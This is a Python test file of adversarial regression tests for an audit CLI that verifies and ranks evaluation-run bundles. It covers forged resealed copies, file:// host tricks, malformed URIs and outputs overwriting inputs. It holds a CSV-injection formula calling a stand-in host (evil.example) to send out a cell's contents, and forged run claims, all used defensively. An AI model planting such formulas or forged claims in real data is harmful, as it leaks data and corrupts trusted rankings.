"""Hostile tests of 2026-12-04 (d): an adversarial publisher and a careless operator against
``audit rank``, ``audit rejudge``, ``audit verify-archive`` (default engine), ``audit verify
--vsa/--attest``, ``audit show`` and the CLI contract (exit 2 with one line, never a traceback,
no write over what should not be replaced).

Holes (each test below failed on the code as found; all nine are fixed the same day and the
tests pass: 1 by placing the earliest copy that passes its checks (``Facts.passed``), 2 by
``verify.render.csv_cell`` in the one CSV writer, 3 by ``verify._source.file_url_path`` for
folders too, 4 by ``audit.cli.signing.summary_time``, 5 and 6 by ``_published_uri`` (its own
bare form, printable), 7 and 8 by ``audit._store.output_target`` (and ``--resource-uri``
needing ``--vsa``), 9 by reading a list as ``utf-8-sig``):

1. ``rank``: a copy of a rankable run (the same evidence, resealed by anyone under another run
   id, one second earlier, with claims that differ from the replay) is "intact" (integrity ok)
   and placed; the real run is listed apart as "a copy of" it and the ranking is empty
   (``verify.judging`` copies sorted by ``not intact, created_at, digest``; ``intact`` is
   ``integrity.status == "ok"`` only, ``verify/ranking.py`` ``Facts.of``).
2. ``rank --csv``: a model name chosen by the publisher (``runtime_model_id``, any string) is
   written as a cell that starts with ``=``: a formula to a spreadsheet (``_rank_csv``).
3. ``file://`` folder URLs (``verify.archive.expand``: ``Path(text[7:])``): ``file://localhost/
   abs/dir/`` is refused ("localhost/abs/dir: no such directory"), ``file://other.host/dir/``
   reads the relative folder ``other.host/dir`` of the working directory, ``%20`` is not
   decoded; a single bundle URL goes through ``_file_url_path``, which does all three right.
4. ``SOURCE_DATE_EPOCH`` out of range (``99999999999999999999``, ``253402300800``) or a digit
   ``int`` does not take (``²``) with ``--vsa``: a traceback after the verification
   (``audit.cli.signing.summarize``, ``dt.datetime.fromtimestamp(int(epoch))``).
5. ``--resource-uri 'https://[::1/x.tar'`` passes the argparse check and ends in a traceback
   (``ValueError: Invalid IPv6 URL`` from ``bare_uri`` in ``verification_summary``); one with a
   byte that is not UTF-8 ends in a pydantic ``ValidationError`` traceback.
6. ``--resource-uri`` "recorded as given" is not: a tab or a final newline in it is dropped by
   ``urlsplit`` and ``https://h/x<TAB>y.tar`` is signed as ``https://h/xy.tar``.
7. ``verify --vsa/--attest/--evidence-out`` and ``show --html`` write over the bundle they
   read: ``audit verify run.tar --vsa run.tar`` replaces the tar with the summary (exit 0),
   ``--attest run/manifest.json`` destroys the manifest, ``--html run/report.html`` adds a file
   that fails the next verification; ``audit pack`` refuses the same (``-o`` inside the bundle).
8. ``--vsa ""`` (an unset shell variable) writes nothing and exits 0; ``--resource-uri``
   without ``--vsa`` is silently ignored (help: "with --vsa"), where ``--scheduler`` without
   ``--engine dask`` is refused.
9. A ``--from`` list saved with a UTF-8 byte order mark (Notepad): its first line, even a
   ``#`` comment, is a source named with an invisible U+FEFF, refused as "no such bundle".

Held (cheap tests below): the VSA is FAILED for a non-rankable result and for a rankable run
judged by a pin set impersonating a shipped id, PASSED only for the rankable run under its own
pin set; its subject is the bundle digest, its policy the pin set's id and digest; a directory
and its tar give the same bytes but the ``resourceUri`` (``SOURCE_DATE_EPOCH`` set); ``rejudge``
lists a rankable run that stops qualifying (``rankable yes -> no``) and one judged by a stricter
``--before`` the other way; ``--from`` lists with CRLF, a lone CR, indented comments, blank lines;
a NUL in a line is exit 2 with one line; an output path that is a directory or in no directory
is exit 2 with one line; a FIFO as output was replaced, not opened (no hang; now refused
before any work, as ``pack`` refuses one); ``pack -o`` inside
the bundle is refused; a folder given as ``file:///abs/dir/`` is read; one tar under two
URLs of a range server on 127.0.0.1 and its directory are one bundle (three sources), the
verdict bytes by URL are those from disk, and a server whose ETag changes between requests
leaves the bundle counted once, no traceback.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
from pathlib import Path

import pytest

from audit import pack
from audit.cli import main
from bundle_schema import digest_of
from bundle_schema.models import ModelIdentity
from tests.conftest import DEPLOYMENT_PINS
from tests.data.hostile.kit import audit_process, manifest_changed
from tests.factories import DIGEST, write_small_bundle

FULL = "gx10-full-qualified"
FULL_RUN = "gx10-v5-full-20261102T100000Z-01"
ROOT = Path(__file__).resolve().parents[2]


_audit = audit_process


def _one_line(done: subprocess.CompletedProcess[str], command: str) -> str:
    assert "Traceback" not in done.stderr, done.stderr
    lines = done.stderr.splitlines()
    assert len(lines) == 1, done.stderr
    assert lines[0].startswith(f"audit {command}: ")
    return lines[0]


_reseal = manifest_changed


# --- 1. a copy with lying claims displaces the ranked run -------------------------------------


def test_a_copy_whose_checks_fail_does_not_displace_the_ranked_run(
    ranked_examples: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Anyone can reseal a published run's evidence under a run id of theirs, a second before
    the original's creation time, with claims that differ from the replay (so ``audit verify``
    of it exits 1). It is "intact" (integrity ok), so it is the copy placed, and the real
    rankable run is listed apart as a copy of it: the ranking loses it."""
    victim = Path(shutil.copytree(ranked_examples[FULL], tmp_path / "victim"))
    created = json.loads((victim / "manifest.json").read_bytes())["created_at"]
    assert created == "2026-11-02T11:45:00Z"
    forged = _reseal(
        Path(shutil.copytree(victim, tmp_path / "forged")),
        run_id="forged-01",
        created_at="2026-11-02T11:44:59Z",
        claims={"outcome": "NOT_QUALIFIED", "profile_decision": "DOES_NOT_MEET_PROFILE",
                "rankable": False},
    )  # fmt: skip
    assert main(["verify", str(forged), "--pins", str(DEPLOYMENT_PINS)]) == 1  # a failed check
    capsys.readouterr()
    assert main(["rank", str(victim), str(forged), "--pins", str(DEPLOYMENT_PINS), "--json"]) == 0
    ranking = json.loads(capsys.readouterr().out)
    assert [r["run_id"] for r in ranking["ranked"]] == [FULL_RUN], ranking["apart"]


def test_a_copy_dated_before_its_evidence_does_not_displace_the_ranked_run(
    ranked_examples: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Held: the same copy dated a day before its own evidence, with claims that repeat its
    replay (not rankable), fails its checks (its results end after the bundle was made), so it
    is never the copy placed: the earliest copy that passes its checks is the ranked run."""
    victim = Path(shutil.copytree(ranked_examples[FULL], tmp_path / "victim"))
    forged = _reseal(
        Path(shutil.copytree(victim, tmp_path / "forged")),
        run_id="forged-02",
        created_at="2026-11-01T11:45:00Z",
    )
    assert main(["verify", str(forged), "--pins", str(DEPLOYMENT_PINS), "--json"]) == 1
    replay = json.loads(capsys.readouterr().out)
    assert replay["rankable"] is False
    claims = {
        "outcome": replay["outcome"],
        "result_validity": replay["result_validity"],
        "profile_decision": replay["profile_decision"],
        "rankable": False,
        "aggregate_score": replay["scores"]["aggregate"],
        "executed_weight": replay["scores"]["executed_weight"],
    }
    _reseal(forged, claims=claims)
    assert main(["verify", str(forged), "--pins", str(DEPLOYMENT_PINS)]) == 1
    assert "after the bundle was made" in capsys.readouterr().err
    assert main(["rank", str(victim), str(forged), "--pins", str(DEPLOYMENT_PINS), "--json"]) == 0
    ranking = json.loads(capsys.readouterr().out)
    assert [r["run_id"] for r in ranking["ranked"]] == [FULL_RUN], ranking["apart"]


# --- 2. CSV formula from a publisher's name -----------------------------------------------------


def test_a_model_name_is_no_formula_in_the_ranking_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    model = ModelIdentity(runtime_model_id=formula, digest=DIGEST, digest_source="declared")
    write_small_bundle(tmp_path / "archive" / "run-1", model=model)
    assert main(["rank", str(tmp_path / "archive"), "--csv"]) == 0
    import csv  # noqa: PLC0415

    rows = list(csv.DictReader(capsys.readouterr().out.splitlines()))
    (row,) = rows
    assert formula.lstrip("=") in row["model"]
    assert not row["model"].startswith(("=", "+", "-", "@")), row["model"]


# --- 3. file:// folder URLs ---------------------------------------------------------------------


COMMANDS = [["rank"], ["rejudge", "--pins", "gx10-qualification-v5"], ["verify-archive"]]


@pytest.mark.parametrize("command", COMMANDS)
def test_a_file_url_folder_on_localhost_is_the_local_folder(
    command: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """RFC 8089 (and ``_file_url_path`` for one bundle): ``file://localhost/abs`` is ``/abs``."""
    write_small_bundle(tmp_path / "archive" / "run-1")
    assert main([*command, f"file://{tmp_path}/archive/", "--json"]) == 0  # held
    capsys.readouterr()
    assert main([*command, f"file://localhost{tmp_path}/archive/", "--json"]) == 0, (
        capsys.readouterr().err
    )


@pytest.mark.parametrize("command", COMMANDS)
def test_a_file_url_folder_of_another_host_is_refused(
    command: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """``file://evil.example/archive/`` named the folder ``evil.example/archive`` of the working
    directory and judged it, reported as passed; one bundle's ``file://`` URL of another host
    is refused ("a file:// URL of another host")."""
    monkeypatch.chdir(tmp_path)
    write_small_bundle(tmp_path / "evil.example" / "archive" / "run-1")
    assert main([*command, "file://evil.example/archive/run-1", "--json"]) == 1  # held
    assert "of another host" in "".join(capsys.readouterr())  # one bundle: a refused source
    code = main([*command, "file://evil.example/archive/", "--json"])
    captured = capsys.readouterr()
    assert code in (1, 2), captured.out  # refused (as one bundle's URL is), never judged
    assert "another host" in captured.out + captured.err


@pytest.mark.parametrize("command", COMMANDS)
def test_a_file_url_folder_is_percent_decoded(
    command: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_small_bundle(tmp_path / "my archive" / "run-1")
    assert main([*command, f"file://{tmp_path}/my%20archive/run-1", "--json"]) == 0  # held
    capsys.readouterr()
    assert main([*command, f"file://{tmp_path}/my%20archive/", "--json"]) == 0, (
        capsys.readouterr().err
    )


# --- 4, 5, 6. the summary's time and resourceUri ------------------------------------------------


@pytest.fixture
def small(tmp_path: Path) -> Path:
    root = tmp_path / "run"
    write_small_bundle(root)
    return root


@pytest.mark.parametrize("epoch", ["99999999999999999999", "253402300800", "\u00b2"])
def test_a_source_date_epoch_out_of_range_is_one_line(
    epoch: str, small: Path, tmp_path: Path
) -> None:
    done = _audit(
        ["verify", str(small), "--vsa", str(tmp_path / "v.json")],
        env={"SOURCE_DATE_EPOCH": epoch},
    )
    line = _one_line(done, "verify")
    assert done.returncode == 2
    assert "SOURCE_DATE_EPOCH" in line


@pytest.mark.parametrize("uri", ["https://[::1/x.tar", b"https://h/x\x85.tar"])
def test_a_resource_uri_that_is_no_uri_is_refused_before_verifying(
    uri: str | bytes, small: Path, tmp_path: Path
) -> None:
    target = tmp_path / "v.json"
    done = _audit(["verify", str(small), "--vsa", str(target), "--resource-uri", uri])
    _one_line(done, "verify")
    assert done.returncode == 2
    assert not target.exists()


@pytest.mark.parametrize("uri", ["https://h/x\ty.tar", "https://h/x.tar\n"])
def test_a_resource_uri_is_recorded_as_given_or_refused(
    uri: str, small: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """ADR 0023: "recorded as given ... The operator sees the refusal instead of finding a
    silently shortened URI in what was signed"."""
    target = tmp_path / "v.json"
    code = main(["verify", str(small), "--vsa", str(target), "--resource-uri", uri])
    if code == 2:
        return
    recorded = json.loads(target.read_bytes())["predicate"]["resourceUri"]
    assert recorded == uri


# --- 7. outputs written over the bundle read ----------------------------------------------------


def test_a_summary_never_replaces_the_tar_it_verifies(small: Path, tmp_path: Path) -> None:
    tar = tmp_path / "run.tar"
    pack(small, tar)
    before = tar.read_bytes()
    for flag in ("--vsa", "--attest", "--evidence-out"):
        done = _audit(["verify", str(tar), flag, str(tar)])
        assert tar.read_bytes() == before, f"{flag}: the tar was replaced (exit {done.returncode})"
        assert done.returncode == 2
        _one_line(done, "verify")


@pytest.mark.parametrize(
    ("argv", "name"),
    [
        (["verify", "--attest"], "manifest.json"),
        (["verify", "--vsa"], "summary.json"),
        (["show", "--html"], "report.html"),
    ],
)
def test_an_output_is_never_written_into_the_bundle_read(
    argv: list[str], name: str, small: Path
) -> None:
    """``audit pack`` refuses ``-o`` inside the bundle it packs; the verifier's own outputs
    did not: the manifest replaced, or a file added that fails the next verification."""
    manifest = (small / "manifest.json").read_bytes()
    done = _audit([argv[0], str(small), argv[1], str(small / name)])
    assert (small / "manifest.json").read_bytes() == manifest
    assert sorted(p.name for p in small.iterdir()) == ["blobs", "manifest.json"]
    assert done.returncode == 2
    _one_line(done, argv[0])


def test_pack_inside_the_bundle_is_refused(small: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Held: the precedent for the test above."""
    assert main(["pack", str(small), "-o", str(small / "self.tar")]) == 2
    assert "inside the bundle" in capsys.readouterr().err
    assert not (small / "self.tar").exists()


# --- 8. empty and orphan options ----------------------------------------------------------------


@pytest.mark.parametrize("flag", ["--vsa", "--attest", "--evidence-out"])
def test_an_empty_output_path_is_refused(flag: str, small: Path) -> None:
    """``--vsa "$OUT"`` with ``OUT`` unset: exit 0 and no summary, where the CI step after it
    signs and publishes a file that is not there (or an old one)."""
    done = _audit(["verify", str(small), flag, ""])
    assert done.returncode == 2, (done.returncode, done.stderr)
    _one_line(done, "verify")


def test_a_resource_uri_without_a_summary_is_a_usage_error(small: Path) -> None:
    done = _audit(["verify", str(small), "--resource-uri", "https://runs.example.org/run.tar"])
    assert done.returncode == 2, done.stderr
    _one_line(done, "verify")


# --- 9. list files ------------------------------------------------------------------------------


def test_a_list_with_a_byte_order_mark_is_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_small_bundle(tmp_path / "archive" / "run-1")
    listed = tmp_path / "list.txt"
    listed.write_bytes("\ufeff# the runs of v5\r\narchive/run-1\r\n".encode())
    code = main(["verify-archive", "--from", str(listed)])
    err = capsys.readouterr().err
    assert "\ufeff" not in err  # an invisible character in the one line that says what is wrong
    assert code == 0, err


@pytest.mark.parametrize(
    "text",
    [
        "archive/run-1\r\n# c\r\n\r\n",
        "archive/run-1\rarchive/run-1\r",
        "  \t# indented\n\n  archive/run-1  \n",
    ],
)
def test_list_files_with_odd_line_endings_are_read(
    text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_small_bundle(tmp_path / "archive" / "run-1")
    listed = tmp_path / "list.txt"
    listed.write_bytes(text.encode())
    assert main(["verify-archive", "--from", str(listed)]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["counts"]["bundles"] == 1


def test_a_nul_in_a_list_line_is_one_line(tmp_path: Path) -> None:
    write_small_bundle(tmp_path / "archive" / "run-1")
    listed = tmp_path / "list.txt"
    listed.write_bytes(b"archive/run-1\x00x\n")
    done = _audit(["verify-archive", "--from", str(listed)])
    assert done.returncode == 2
    assert f"{listed}:1: " in _one_line(done, "verify-archive")


# --- held: output paths -------------------------------------------------------------------------


def test_an_output_path_that_cannot_be_written_is_one_line(small: Path, tmp_path: Path) -> None:
    (tmp_path / "a-dir").mkdir()
    for target in (tmp_path / "a-dir", tmp_path / "nowhere" / "v.json"):
        done = _audit(["verify", str(small), "--vsa", str(target)])
        assert done.returncode == 2
        assert str(target) in _one_line(done, "verify")


def test_a_fifo_as_output_is_refused_without_hanging(small: Path, tmp_path: Path) -> None:
    """A FIFO (or, as root, a device node) is never replaced by an output's rename: refused
    before the bundle is read, as ``audit pack -o`` refuses it (``output_target``)."""
    fifo = tmp_path / "v.json"
    os.mkfifo(fifo)
    done = _audit(["verify", str(small), "--vsa", str(fifo)])
    assert done.returncode == 2, done.stderr
    assert (
        done.stderr
        == f"audit verify: {fifo}: not a regular file; the output is written as a file\n"
    )
    assert stat.S_ISFIFO(fifo.lstat().st_mode)


# --- held: the summary's result, subject and policy ---------------------------------------------


def _summary(bundle: Path, target: Path, *pins: str) -> dict[str, object]:
    code = main(["verify", str(bundle), *pins, "--vsa", str(target), "--json"])
    assert code in (0, 1)
    return json.loads(target.read_bytes())


def test_the_summary_passes_only_the_rankable_run_under_its_own_pins(
    ranked_examples: dict[str, Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1796000000")
    full = Path(shutil.copytree(ranked_examples[FULL], tmp_path / "full"))
    tar = tmp_path / "full.tar"
    pack(full, tar)
    digest = digest_of((full / "manifest.json").read_bytes())
    pins = ["--pins", str(DEPLOYMENT_PINS)]
    passed = _summary(full, tmp_path / "a.json", *pins)
    predicate = passed["predicate"]
    assert isinstance(predicate, dict)
    assert predicate["verificationResult"] == "PASSED"
    assert predicate["verifiedLevels"] == ["EVIDENCE_AUDIT_RANKABLE"]
    assert passed["subject"] == [{"digest": {"sha256": digest[7:]}, "name": "manifest.json"}]
    from pins import parse_pin_set  # noqa: PLC0415

    judged = parse_pin_set(DEPLOYMENT_PINS.read_bytes(), str(DEPLOYMENT_PINS))
    assert predicate["policy"] == {
        "digest": {"sha256": judged.digest[7:]},
        "uri": f"urn:evidence-audit:pin-set:{judged.id}",
    }
    assert predicate["resourceUri"] == full.resolve().as_uri()
    from_tar = _summary(tar, tmp_path / "b.json", *pins)
    tar_predicate = from_tar["predicate"]
    assert isinstance(tar_predicate, dict)
    assert tar_predicate["resourceUri"] == tar.resolve().as_uri()
    assert {**tar_predicate, "resourceUri": ""} == {**predicate, "resourceUri": ""}

    # a pin set file impersonating the shipped id, same content: not the run's pin set
    impersonating = tmp_path / "imp.toml"
    impersonating.write_text(
        DEPLOYMENT_PINS.read_text("utf-8").replace(
            'id = "gx10-deployment-v5"', 'id = "gx10-qualification-v5"', 1
        ),
        "utf-8",
    )
    failed = _summary(full, tmp_path / "c.json", "--pins", str(impersonating))["predicate"]
    assert isinstance(failed, dict)
    assert (failed["verificationResult"], failed["verifiedLevels"]) == ("FAILED", ["FAILED"])
    # the demo-only pin set it is not recorded under, and the unshipped one not given
    small = tmp_path / "small"
    write_small_bundle(small)
    other = _summary(small, tmp_path / "d.json")["predicate"]
    assert isinstance(other, dict)
    assert other["verificationResult"] == "FAILED"
    capsys.readouterr()


# --- held: rejudge of a rankable run ------------------------------------------------------------


def test_rejudge_lists_a_rankable_run_that_stops_ranking_and_back(
    ranked_examples: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    full = Path(shutil.copytree(ranked_examples[FULL], tmp_path / "full"))
    stricter = tmp_path / "stricter.toml"
    stricter.write_text(
        DEPLOYMENT_PINS.read_text("utf-8").replace("aggregate = 70", "aggregate = 90", 1), "utf-8"
    )
    base = ["rejudge", str(full), "--csv"]
    assert main([*base, "--before", str(DEPLOYMENT_PINS), "--pins", str(stricter)]) == 0
    import csv  # noqa: PLC0415

    (row,) = csv.DictReader(capsys.readouterr().out.splitlines())
    assert (row["status"], row["rankable_before"], row["rankable"]) == ("changed", "yes", "no")
    assert main([*base, "--before", str(stricter), "--pins", str(DEPLOYMENT_PINS)]) == 0
    (row,) = csv.DictReader(capsys.readouterr().out.splitlines())
    assert (row["status"], row["rankable_before"], row["rankable"]) == ("changed", "no", "yes")
    # without --before, the run names a pin set that is not shipped: refused, said on one line
    assert main(["rejudge", str(full), "--pins", str(stricter), "--json"]) == 1
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 1
    assert err[0].startswith(f"audit rejudge: refused {full}: ")


# --- held: one tar under two URLs, and a server that lies on one of them ----------------------


def test_one_tar_under_two_urls_is_one_bundle_and_a_lie_is_a_refusal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.http_range import serve, url_of  # noqa: PLC0415

    bundle = tmp_path / "run"
    write_small_bundle(bundle)
    served = tmp_path / "served"
    served.mkdir()
    pack(bundle, served / "run.tar")
    shutil.copy(served / "run.tar", served / "mirror.tar")
    with serve(served) as server:
        urls = [url_of(server, served / "run.tar"), url_of(server, served / "mirror.tar")]
        assert main(["verify-archive", *urls, str(bundle)]) == 0
        report = json.loads(capsys.readouterr().out)
        assert report["counts"] == {
            "bundles": 1, "failed": 0, "passed": 1, "refused": 0, "sources": 3,
        }  # fmt: skip
        direct = main(["verify", str(bundle), "--json"])
        verdict = capsys.readouterr().out
        assert main(["verify", urls[0], "--json"]) == direct
        assert capsys.readouterr().out == verdict  # the same verdict bytes by URL
        server.lie = "etag-changes-ignoring-if-match"
        code = main(["rank", *urls, str(bundle), "--json"])
        captured = capsys.readouterr()
        assert code in (0, 1)
        assert "Traceback" not in captured.err
        ranking = json.loads(captured.out)
        assert len(ranking["apart"]) == 1  # counted once, whatever the server said
